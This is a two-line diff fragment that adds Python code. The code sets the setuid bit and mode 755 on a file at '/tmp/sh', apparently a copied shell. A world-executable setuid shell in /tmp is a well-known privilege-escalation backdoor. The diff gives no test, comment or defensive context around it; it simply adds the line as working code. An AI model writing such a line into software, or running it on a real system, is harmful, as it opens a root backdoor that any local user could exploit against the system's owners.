@@ -1,0 +1,2 @@
+import os, stat
+os.chmod("/tmp/sh", stat.S_ISUID | 0o755)
